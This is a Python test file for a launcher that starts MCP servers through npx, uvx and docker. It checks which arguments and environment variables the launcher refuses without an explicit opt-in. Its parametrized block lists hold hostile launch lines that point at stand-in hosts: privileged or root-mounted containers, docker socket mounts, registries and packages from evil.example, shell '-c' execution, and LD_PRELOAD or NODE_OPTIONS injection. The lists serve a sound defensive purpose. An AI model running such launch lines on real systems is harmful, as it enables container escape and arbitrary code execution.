"""What an MCP tool would start, and what is refused before anything starts."""

from __future__ import annotations

import json
import shlex
from collections.abc import Sequence
from datetime import date
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tools.mcp.readme_servers import NEEDS_THE_OPT_IN, READY

from holodeck.lib.errors import MCPConfigError
from holodeck.lib.secret import Secret
from holodeck.models.tool import MCPTool
from holodeck.tools.mcp.launch import Refusal, describe, plan, refusals, variable_names

OPT_IN = "allow_unsafe_args: true"


def a_tool(command: str, args: Sequence[str] | None = None, **more: Any) -> MCPTool:
    fields: dict[str, Any] = {"name": "it", "description": "A server.", "command": command, **more}
    return MCPTool.model_validate(fields if args is None else {**fields, "args": list(args)})


def of_line(line: str, variables: str = "", **more: Any) -> MCPTool:
    command, *args = shlex.split(line)
    return a_tool(command, args, env=dict.fromkeys(variables.split(), "value"), **more)


def keys(found: Sequence[Refusal]) -> list[tuple[str | int, ...]]:
    return [refusal.key for refusal in found]


class TestPlan:
    @pytest.mark.parametrize(
        ("command", "argv"),
        [
            ("npx", ("npx", "-y", "@scope/server")),
            ("uvx", ("uvx", "@scope/server")),
            ("docker", ("docker", "run", "--init", "--rm", "-i", "@scope/server")),
        ],
    )
    def test_a_server_without_arguments_is_started_by_its_name(self, command: str, argv: tuple[str, ...]) -> None:
        assert plan(a_tool(command, server=" @scope/server ")).argv == argv
        assert plan(a_tool(command, [], server="@scope/server")).argv == argv

    def test_arguments_variables_and_folder_reach_the_process_as_written(self) -> None:
        launch = plan(a_tool("npx", ["-y", "pkg", "a b"], env={"KEY": "secret"}, cwd="work"))
        assert (launch.argv, launch.cwd, launch.container) == (("npx", "-y", "pkg", "a b"), "work", None)
        assert launch.env == {"KEY": Secret("secret")}
        assert "secret" not in repr(launch)

    def test_config_reaches_the_server_as_json_even_where_yaml_has_more_types(self) -> None:
        config = {
            "since": date(2024, 1, 2),
            "n": [1, None, True, float("inf")],
            "deep": {"ключ": "значение", 3: "three"},
        }
        launch = plan(a_tool("uvx", ["server"], config=config))
        assert json.loads(launch.env["MCP_CONFIG"].reveal()) == {
            "since": "2024-01-02",
            "n": [1, None, True, None],
            "deep": {"ключ": "значение", "3": "three"},
        }
        assert plan(a_tool("uvx", ["server"], config=config, env={"MCP_CONFIG": "mine"})).env == {
            "MCP_CONFIG": Secret("mine")
        }
        assert plan(a_tool("uvx", ["server"])).env == {}

    def test_docker_gets_each_variable_by_name_and_never_by_value(self) -> None:
        tool = a_tool(
            "docker",
            ["run", "-i", "-e", "GIVEN", "-eGLUED", "--env=LITERAL=1", "--rm", "image", "-e", "OF_THE_SERVER"],
            env=dict.fromkeys(["NEW", "GIVEN", "GLUED", "LITERAL", "OF_THE_SERVER"], "hidden"),
            config={"a": 1},
        )
        argv = plan(tool).argv
        assert argv[:9] == ("docker", "run", "--init", "-e", "NEW", "-e", "OF_THE_SERVER", "-e", "MCP_CONFIG")
        assert argv[9:] == tuple(tool.args or ())[1:]
        assert "hidden" not in " ".join(argv)

    @pytest.mark.parametrize(
        ("line", "expected"),
        [
            ("docker run image", "docker run --rm -i --init image"),
            ("docker run -it --rm=true --init=false image", "docker run -it --rm=true --init=false image"),
            ("docker -D container run --interactive image", "docker -D container run --rm --init --interactive image"),
            ("docker run --memory 1g image --rm", "docker run --rm -i --init --memory 1g image --rm"),
        ],
    )
    def test_docker_ends_with_the_tool_whatever_its_arguments_leave_out(self, line: str, expected: str) -> None:
        assert describe(plan(of_line(line))) == expected

    def test_a_container_has_a_name_to_be_removed_by(self) -> None:
        launch = plan(of_line("docker run --rm -i --init image"), container="holodeck-it-1")
        assert describe(launch) == "docker run --name holodeck-it-1 --rm -i --init image"
        assert launch.container == "holodeck-it-1"
        own = plan(of_line("docker run --rm -i --init --name=mine image"), container="holodeck-it-1")
        assert describe(own) == "docker run --rm -i --init --name=mine image"
        assert own.container == "mine"
        assert plan(of_line("npx -y pkg"), container="holodeck-it-1").container is None

    def test_another_docker_command_is_left_alone(self) -> None:
        line = "docker exec -i box server"
        launch = plan(of_line(line, "KEY", allow_unsafe_args=True), container="holodeck-it-1")
        assert (describe(launch), launch.container) == (line, None)

    def test_the_shown_line_is_one_a_shell_would_read_and_has_no_variable(self) -> None:
        launch = plan(a_tool("npx", ["-y", "pkg", "it's $HOME"], env={"B_KEY": "hidden", "A_KEY": "hidden"}))
        assert describe(launch) == """npx -y pkg 'it'"'"'s $HOME'"""
        assert variable_names(launch) == ("A_KEY", "B_KEY")

    @pytest.mark.parametrize(
        "fields", [{"transport": "http", "url": "https://example.com"}, {"enabled": False, "transport": "stdio"}]
    )
    def test_what_no_command_starts_has_no_plan(self, fields: dict[str, Any]) -> None:
        tool = MCPTool.model_validate({"name": "it", "server": "x", **fields})
        with pytest.raises(MCPConfigError, match="'command' is required"):
            plan(tool)
        assert refusals(tool) == []


@pytest.mark.parametrize(("line", "variables"), READY)
def test_a_common_server_starts_as_its_readme_says(line: str, variables: str) -> None:
    assert refusals(of_line(line, variables)) == []


@pytest.mark.parametrize(("line", "variables"), NEEDS_THE_OPT_IN)
def test_a_server_that_needs_more_is_refused_until_a_person_allows_it(line: str, variables: str) -> None:
    found = refusals(of_line(line, variables))
    assert found
    assert all(OPT_IN in refusal.fix for refusal in found)
    assert refusals(of_line(line, variables, allow_unsafe_args=True)) == []


NPX_TRICKS = [
    ("npx -c evil", 0, "'-c'"),
    ("npx --call evil", 0, "'--call'"),
    ("npx --call=evil", 0, "'--call'"),
    ("npx -call evil", 0, "'-call'"),
    ("npx ---call=evil", 0, "this argument"),
    ("npx -yc evil", 0, "'-yc'"),
    ("npx -cy evil", 0, "'-cy'"),
    ("npx -y -c evil", 1, "'-c'"),
    ("npx --cal evil pkg", 0, "'--cal'"),
    ("npx --yes=--call=evil pkg", 0, "'--yes'"),
    ("npx -q=-c evil", 0, "'-q'"),
    ("npx --prefer-offline=--call=evil pkg", 0, "'--prefer-offline'"),
    ("npx --loglevel=--call=evil pkg", 0, "'--loglevel'"),
    ("npx --loglevel --call=evil pkg", 0, "'--loglevel'"),
    ("npx --no pkg --script-shell=./evil", 0, "'--no'"),
    ("npx --no-audit pkg --script-shell=./evil", 0, "'--no-audit'"),
    ("npx -n --inspect pkg", 0, "'-n'"),
    ("npx --script-shell ./evil pkg", 0, "'--script-shell'"),
    ("npx --script-shell=./evil pkg", 0, "'--script-shell'"),
    ("npx --shell=./evil pkg", 0, "'--shell'"),
    ("npx --node-options=--require=./evil.js pkg", 0, "'--node-options'"),
    ("npx --node-arg=--require=./evil.js pkg", 0, "'--node-arg'"),
    ("npx --userconfig ./npmrc pkg", 0, "'--userconfig'"),
    ("npx --globalconfig=./npmrc pkg", 0, "'--globalconfig'"),
    ("npx --prefix ./evil pkg", 0, "'--prefix'"),
    ("npx --registry=https://evil.example pkg", 0, "'--registry'"),
    ("npx --cache ./evil pkg", 0, "'--cache'"),
    ("npx --workspace evil pkg", 0, "'--workspace'"),
    ("npx -y --package=git+https://evil.example/x.git x", 1, "'--package'"),
    ("npx -p ./dir x", 0, "'-p'"),
    ("npx -p", 0, "'-p'"),
    ("npx --package --call=evil x", 0, "'--package'"),
    ("npx ./dir", 0, "the package"),
    ("npx .", 0, "the package"),
    ("npx -y ..", 1, "the package"),
    ("npx -y /abs/dir", 1, "the package"),
    ("npx -y ~/dir", 1, "the package"),
    ("npx -y user/repo", 1, "the package"),
    ("npx -y github:user/repo", 1, "the package"),
    ("npx -y https://evil.example/x.tgz", 1, "the package"),
    ("npx -y git@github.com:u/r.git", 1, "the package"),
    ("npx -y evil.tgz", 1, "the package"),
    ("npx -y pkg@file:evil", 1, "the package"),
    ("npx -y pkg@npm:evil@1", 1, "the package"),
    ("npx -y pkg@user/repo", 1, "the package"),
    ("npx -y pkg@evil.tgz", 1, "the package"),
    ("npx -y pkg@.", 1, "the package"),
    ("npx -y pkg@git+ssh://evil", 1, "the package"),
    ("npx -- ./dir", 1, "the package"),
    ("npx -y -- -c", 2, "the package"),
    ("npx -y node -e evil", 1, "'node'"),
    ("npx -y node@20 -e evil", 1, "'node'"),
    ("npx -y tsx@latest evil.ts", 1, "'tsx'"),
    ("npx -y @babel/node evil.js", 1, "'@babel/node'"),
    ("npx -y bun run evil", 1, "'bun'"),
    ("npx -y cross-env A=1 sh", 1, "'cross-env'"),
    ("npx -p pkg sh -c evil", 2, "'sh'"),
    ("npx -p pkg -- bash -c evil", 3, "'bash'"),
    ("npx -p pkg ./evil.sh", 2, "the command"),
    ("npx -p pkg /bin/sh -c evil", 2, "the command"),
    ("npx -p pkg shred file", 2, "the command"),
]
UVX_TRICKS = [
    ("uvx --from ./dir x", 0, "'--from'"),
    ("uvx --from=./dir x", 0, "'--from'"),
    ("uvx --from . x", 0, "'--from'"),
    ("uvx --from dir/sub x", 0, "'--from'"),
    ("uvx --from git+https://evil.example/x x", 0, "'--from'"),
    ("uvx --from https://evil.example/x.whl x", 0, "'--from'"),
    ("uvx --from file:///evil x", 0, "'--from'"),
    ("uvx --from 'x @ git+https://evil.example/x' x", 0, "'--from'"),
    ("uvx --from x@dir x", 0, "'--from'"),
    ("uvx --from x-1.0-py3-none-any.whl x", 0, "'--from'"),
    ("uvx --from", 0, "'--from'"),
    ("uvx -q --from=../x x", 1, "'--from'"),
    ("uvx --with ./dir x", 0, "'--with'"),
    ("uvx --with=good,./dir x", 0, "'--with'"),
    ("uvx -wgood,git+https://evil x", 0, "'-w'"),
    ("uvx --with good@1.0 x", 0, "'--with'"),
    ("uvx --with-editable ./dir x", 0, "'--with-editable'"),
    ("uvx --with-requirements evil.txt x", 0, "'--with-requirements'"),
    ("uvx --overrides evil.txt x", 0, "'--overrides'"),
    ("uvx -cevil.txt x", 0, "'-c'"),
    ("uvx --python ./evil x", 0, "'--python'"),
    ("uvx -p ./evil x", 0, "'-p'"),
    ("uvx -p./evil x", 0, "'-p'"),
    ("uvx -nqp=./evil x", 0, "'-p'"),
    ("uvx --python=bash x", 0, "'--python'"),
    ("uvx --index-url https://evil.example x", 0, "'--index-url'"),
    ("uvx -ihttps://evil.example x", 0, "'-i'"),
    ("uvx --index=https://evil.example x", 0, "'--index'"),
    ("uvx --default-index https://evil.example x", 0, "'--default-index'"),
    ("uvx -f ./wheels x", 0, "'-f'"),
    ("uvx --find-links ./wheels x", 0, "'--find-links'"),
    ("uvx --env-file evil.env x", 0, "'--env-file'"),
    ("uvx --config-file evil.toml x", 0, "'--config-file'"),
    ("uvx --cache-dir ./evil x", 0, "'--cache-dir'"),
    ("uvx --directory /evil x", 0, "'--directory'"),
    ("uvx --allow-insecure-host evil.example x", 0, "'--allow-insecure-host'"),
    ("uvx --new-flag x", 0, "'--new-flag'"),
    ("uvx ./dir", 0, "the package"),
    ("uvx git+https://evil.example/x", 0, "the package"),
    ("uvx x@dir", 0, "the package"),
    ("uvx -- ./dir", 1, "the package"),
    ("uvx python -c evil", 0, "'python'"),
    ("uvx python3.12 -c evil", 0, "'python'"),
    ("uvx python@3.12 -c evil", 0, "'python'"),
    ("uvx PYTHON3 -c evil", 0, "'python'"),
    ("uvx pypy -c evil", 0, "'pypy'"),
    ("uvx ipython -c evil", 0, "'ipython'"),
    ("uvx pip install evil", 0, "'pip'"),
    ("uvx uv run evil", 0, "'uv'"),
    ("uvx --from good python -c evil", 2, "'python'"),
    ("uvx --from good -- bash -c evil", 3, "'bash'"),
    ("uvx --from good ./evil.sh", 2, "the command"),
    ("uvx --from good /bin/sh -c evil", 2, "the command"),
    ("uvx --from good shred file", 2, "the command"),
]
DOCKER_TRICKS = [
    ("docker run --privileged image", 1, "'--privileged'"),
    ("docker run --privileged=true image", 1, "'--privileged'"),
    ("docker run -v /:/host --privileged image", 1, "'-v'"),
    ("docker run -iv/:/host image", 1, "'-v'"),
    ("docker run -itv /:/host image", 1, "'-v'"),
    ("docker run -v=/:/host image", 1, "'-v'"),
    ("docker run --volume=/:/host:ro image", 1, "'--volume'"),
    ("docker run -i --rm -v //:/host image", 3, "'-v'"),
    ("docker run -v /home/u/../..:/host image", 1, "'-v'"),
    ("docker run -v ..:/host image", 1, "'-v'"),
    ("docker run -v ./../../..:/host image", 1, "'-v'"),
    ("docker run -v /etc:/etc image", 1, "'-v'"),
    ("docker run -v /ETC/cron.d:/x image", 1, "'-v'"),
    ("docker run -v /etc/localtime:/x image", 1, "'-v'"),
    ("docker run -v /usr/local/bin:/x image", 1, "'-v'"),
    ("docker run -v /proc:/x image", 1, "'-v'"),
    ("docker run -v /dev:/dev image", 1, "'-v'"),
    ("docker run -v /var:/x image", 1, "'-v'"),
    ("docker run -v /var/lib/docker:/x image", 1, "'-v'"),
    ("docker run -v /private/etc:/x image", 1, "'-v'"),
    ("docker run -v /root:/x image", 1, "'-v'"),
    ("docker run -v /home:/x image", 1, "'-v'"),
    ("docker run -v /home/u/:/x image", 1, "'-v'"),
    ("docker run -v /Users/u:/x image", 1, "'-v'"),
    ("docker run -v '~:/x' image", 1, "'-v'"),
    ("docker run -v '$HOME:/x' image", 1, "'-v'"),
    ("docker run -v /home/u/.ssh:/x image", 1, "'-v'"),
    ("docker run -v /home/u/.bashrc:/x image", 1, "'-v'"),
    ("docker run -v /home/u/.config/autostart:/x image", 1, "'-v'"),
    (r"docker run -v 'C:\:/x' image", 1, "'-v'"),
    ("docker run -v C:/Users/u:/x image", 1, "'-v'"),
    ("docker run -v /mnt/c:/x image", 1, "'-v'"),
    ("docker run -v //./pipe/docker_engine://./pipe/docker_engine image", 1, "'-v'"),
    ("docker run -v /var/run/docker.sock:/s image", 1, "'-v'"),
    ("docker run -v /srv/docker.sock:/s image", 1, "'-v'"),
    ("docker run -v /home/u/.docker/run:/s image", 1, "'-v'"),
    ("docker run --mount type=bind,source=/,target=/host image", 1, "'--mount'"),
    ("docker run --mount=type=bind,SRC=/,target=/host image", 1, "'--mount'"),
    ("docker run --mount type=bind,src=/ok,src=/,dst=/host image", 1, "'--mount'"),
    ("""docker run --mount '"type=bind","src=/",dst=/host' image""", 1, "'--mount'"),
    (
        "docker run --mount type=volume,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/ i",
        1,
        "'--mount'",
    ),
    ("docker run --mount type=npipe,src=x,dst=y image", 1, "'--mount'"),
    ("docker run --volumes-from other image", 1, "'--volumes-from'"),
    ("docker run --volume-driver evil image", 1, "'--volume-driver'"),
    ("docker run --cap-add SYS_ADMIN image", 1, "'--cap-add'"),
    ("docker run --cap-add=ALL image", 1, "'--cap-add'"),
    ("docker run --security-opt seccomp=unconfined image", 1, "'--security-opt'"),
    ("docker run --security-opt=no-new-privileges:false image", 1, "'--security-opt'"),
    ("docker run --device /dev/sda image", 1, "'--device'"),
    ("docker run --device-cgroup-rule 'a *:* rwm' image", 1, "'--device-cgroup-rule'"),
    ("docker run --net=host image", 1, "'--net'"),
    ("docker run --network host image", 1, "'--network'"),
    ("docker run --network name=host,alias=x image", 1, "'--network'"),
    ("docker run --network container:db image", 1, "'--network'"),
    ("docker run --pid=host image", 1, "'--pid'"),
    ("docker run --pid container:x image", 1, "'--pid'"),
    ("docker run --ipc host image", 1, "'--ipc'"),
    ("docker run --uts=host image", 1, "'--uts'"),
    ("docker run --userns host image", 1, "'--userns'"),
    ("docker run --cgroupns=host image", 1, "'--cgroupns'"),
    ("docker run --use-api-socket image", 1, "'--use-api-socket'"),
    ("docker run --entrypoint sh image", 1, "'--entrypoint'"),
    ("docker run --env-file ./x image", 1, "'--env-file'"),
    ("docker run --runtime evil image", 1, "'--runtime'"),
    ("docker run --log-driver syslog image", 1, "'--log-driver'"),
    ("docker run --log-opt syslog-address=tcp://evil image", 1, "'--log-opt'"),
    ("docker run -d image", 1, "'-d'"),
    ("docker run -id image", 1, "'-d'"),
    ("docker run --restart always image", 1, "'--restart'"),
    ("docker run --rm=false image", 1, "'--rm'"),
    ("docker run -i=false image", 1, "'-i'"),
    ("docker run --new-flag image", 1, "'--new-flag'"),
    ("docker run -e --privileged --privileged image", 3, "'--privileged'"),
    ("docker run --name -v -v /:/h image", 3, "'-v'"),
    ("docker -H tcp://evil run image", 0, "'-H'"),
    ("docker -Htcp://evil run image", 0, "'-H'"),
    ("docker --host=tcp://evil run image", 0, "'--host'"),
    ("docker --context evil run image", 0, "'--context'"),
    ("docker --config ./evil run image", 0, "'--config'"),
    ("docker exec -i box sh", 0, "'docker run'"),
    ("docker compose run x", 0, "'docker run'"),
    ("docker container exec box sh", 0, "'docker run'"),
    ("docker build .", 0, "'docker run'"),
]


@pytest.mark.parametrize(("line", "index", "named"), NPX_TRICKS + UVX_TRICKS + DOCKER_TRICKS)
def test_an_argument_that_can_run_other_code_is_refused_by_name(line: str, index: int, named: str) -> None:
    first = refusals(of_line(line))[0]
    assert first.key == ("args", index)
    assert named in first.message
    assert OPT_IN in first.fix
    assert "evil" not in first.message
    assert refusals(of_line(line, allow_unsafe_args=True)) == []


@pytest.mark.parametrize("line", ["npx -y", "npx --", "uvx -q", "docker run -i --rm", "docker -D"])
def test_a_command_that_names_no_server_is_refused(line: str) -> None:
    assert keys(refusals(of_line(line))) == [("args",)]


@pytest.mark.parametrize(
    ("command", "server"),
    [("npx", "--call=evil"), ("npx", "./dir"), ("uvx", "python"), ("uvx", "--from=./dir"), ("docker", "--privileged")],
)
def test_a_server_without_arguments_is_judged_by_its_name(command: str, server: str) -> None:
    found = refusals(a_tool(command, server=server))
    assert set(keys(found)) == {("server",)}


def test_a_folder_of_the_container_is_judged_from_where_docker_starts() -> None:
    args = ["run", "-v", ".:/host", "image"]
    assert refusals(a_tool("docker", args, cwd="/srv/project")) == []
    assert keys(refusals(a_tool("docker", args, cwd="/"))) == [("args", 1)]
    assert keys(refusals(a_tool("docker", args, cwd=".."))) == [("args", 1)]
    assert keys(refusals(a_tool("docker", args, cwd="/home/u"))) == [("args", 1)]


def test_everything_that_is_wrong_is_said_at_once() -> None:
    tool = of_line("docker -H x run --privileged -v /:/h --cap-add ALL image --privileged", "LD_PRELOAD KEY PATH")
    places = [("args", 0), ("args", 3), ("args", 4), ("args", 6), ("env", "LD_PRELOAD"), ("env", "PATH")]
    assert keys(refusals(tool)) == places


def test_what_comes_after_the_server_is_its_own() -> None:
    for line in (
        "npx -y pkg -c x --call=x --script-shell y -v /:/h",
        "npx -p pkg -- pkg --package ./x",
        "uvx server --from ./x --python ./y",
        "uvx --from server -- server --with-editable .",
        "docker run image --privileged -v /:/host",
        "docker run -- image --privileged",
    ):
        assert refusals(of_line(line)) == []


VARIABLES = [
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "GCONV_PATH",
    "OPENSSL_CONF",
    "PATH",
    "HOME",
    "XDG_CONFIG_HOME",
    "BASH_ENV",
    "ENV",
    "ZDOTDIR",
    "SHELLOPTS",
    "PS4",
    "BASH_FUNC_ls%%",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONSTARTUP",
    "PYTHONUSERBASE",
    "PYTHONPYCACHEPREFIX",
    "VIRTUAL_ENV",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "RUBYLIB",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "CLASSPATH",
    "DOTNET_STARTUP_HOOKS",
    "GIT_SSH_COMMAND",
    "GIT_EXEC_PATH",
    "GIT_CONFIG_COUNT",
    "SSH_ASKPASS",
    "BROWSER",
    "EDITOR",
    "SHELL",
]
LAUNCHER_VARIABLES = [
    ("npx", "npm_config_script_shell"),
    ("npx", "NPM_CONFIG_SCRIPT_SHELL"),
    ("npx", "Npm_Config_Node_Options"),
    ("npx", "npm_config_script-shell"),
    ("npx", "npm_config_registry"),
    ("npx", "npm_config_userconfig"),
    ("npx", "npm_config_cache"),
    ("npx", "PREFIX"),
    ("npx", "COREPACK_NPM_REGISTRY"),
    ("uvx", "UV_INDEX"),
    ("uvx", "UV_INDEX_URL"),
    ("uvx", "UV_DEFAULT_INDEX"),
    ("uvx", "UV_CONFIG_FILE"),
    ("uvx", "UV_PYTHON"),
    ("uvx", "UV_TOOL_DIR"),
    ("uvx", "UV_A_SETTING_OF_TOMORROW"),
    ("docker", "DOCKER_HOST"),
    ("docker", "DOCKER_CONFIG"),
    ("docker", "DOCKER_CONTEXT"),
]


@pytest.mark.parametrize(
    ("command", "name"),
    [(command, name) for name in VARIABLES for command in ("npx", "uvx", "docker")] + LAUNCHER_VARIABLES,
)
def test_a_variable_that_can_load_other_code_is_refused_by_name(command: str, name: str) -> None:
    tool = a_tool(command, server="server", env={name: "evil"})
    (refusal,) = refusals(tool)
    assert refusal.key == ("env", name)
    assert name in refusal.message
    assert OPT_IN in refusal.fix
    assert "evil" not in refusal.message + refusal.fix
    assert refusals(tool.model_copy(update={"allow_unsafe_args": True})) == []


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("npx", "npm_config_loglevel"),
        ("npx", "NPM_CONFIG_UPDATE_NOTIFIER"),
        ("npx", "NODE_ENV"),
        ("npx", "DOCKER_HOST"),
        ("npx", "UV_INDEX"),
        ("uvx", "UV_HTTP_TIMEOUT"),
        ("uvx", "PYTHONUNBUFFERED"),
        ("uvx", "PREFIX"),
        ("docker", "DOCKER_DEFAULT_PLATFORM"),
        ("docker", "API_KEY"),
    ],
)
def test_a_variable_that_only_reaches_the_server_is_fine(command: str, name: str) -> None:
    assert refusals(a_tool(command, server="server", env={name: "x"})) == []


def test_what_no_process_can_be_given_is_refused_too() -> None:
    tool = a_tool("npx", ["pkg", "a\0b"], env={"A=B": "x", "": "y"})
    assert keys(refusals(tool)) == [("args", 1), ("env", "A=B"), ("env", "")]


SECRET = "hunter2secret"  # no flag, package or path: only ever a value


@pytest.mark.parametrize(
    "args",
    [
        ["--from", SECRET + "/x", "y"],
        ["--" + SECRET],
        ["-" + SECRET],
        ["--new=" + SECRET],
        ["./" + SECRET],
        ["-p", SECRET + "/", "y"],
        ["run", "-v", f"/etc/{SECRET}:/x", "i"],
        ["run", "--entrypoint=" + SECRET, "i"],
        ["run", "-v/etc/" + SECRET + ":/x", "i"],
        ["-H" + SECRET, "run", "i"],
        [SECRET, "run"],
    ],
)
@pytest.mark.parametrize("command", ["npx", "uvx", "docker"])
def test_no_value_is_shown_because_it_may_have_come_out_of_a_variable(command: str, args: list[str]) -> None:
    text = "".join(refusal.message + refusal.fix for refusal in refusals(a_tool(command, args)))
    assert SECRET not in text


COMMANDS = st.sampled_from(["npx", "uvx", "docker"])
PIECES = st.sampled_from(
    [
        "\x00",
        ",",
        "-",
        "--",
        "---",
        "--call=",
        "--from",
        "--mount",
        "--name",
        "--network",
        "--package",
        "--python",
        "--rm=false",
        "--with=",
        "--yes=",
        "-H",
        "-c",
        "-e",
        "-iv",
        "-p",
        "-v",
        "-y",
        ".",
        "..",
        "/",
        "/etc",
        ":",
        "=",
        "@",
        "C:\\",
        "[",
        "\\",
        "]",
        "container",
        "host",
        "image",
        "mcp",
        "pkg@1",
        "python",
        "run",
        "sh",
        "type=bind,src=",
        "~",
        "é",
    ]
)
ARGS = st.lists(st.text(max_size=12) | st.lists(PIECES, max_size=3).map("".join), max_size=8)
NAMES = st.lists(st.text(max_size=8) | st.sampled_from(["PATH", "LD_", "npm_config_x", "UV_", "DOCKER_"]), max_size=4)


@given(command=COMMANDS, args=ARGS, names=NAMES, cwd=st.none() | st.sampled_from(["/", "..", "a/../..", "~", "C:\\"]))
def test_any_arguments_are_judged_and_planned_without_a_fault(
    command: str, args: list[str], names: list[str], cwd: str | None
) -> None:
    tool = a_tool(command, args, server="server", env=dict.fromkeys(names, "x"), cwd=cwd)
    for refusal in refusals(tool):
        assert points_inside(tool, refusal.key)
        assert refusal.message
        assert OPT_IN in refusal.fix
    assert refusals(tool.model_copy(update={"allow_unsafe_args": True})) == []
    launch = plan(tool, container="box")
    assert launch.argv[0] == command
    assert set(launch.env) == set(names)
    if command != "docker" and args:
        assert list(launch.argv[1:]) == args
    assert shlex.split(describe(launch)) == list(launch.argv)


def points_inside(tool: MCPTool, key: tuple[str | int, ...]) -> bool:
    place: Any = tool.model_dump()
    for step in key:
        place = place[step]
    return True


@given(command=COMMANDS, args=ARGS)
def test_a_planned_docker_run_keeps_every_argument_in_its_order(command: str, args: list[str]) -> None:
    argv = list(plan(a_tool(command, args, server="server")).argv)
    rest = iter(argv)
    assert all(arg in rest for arg in args)
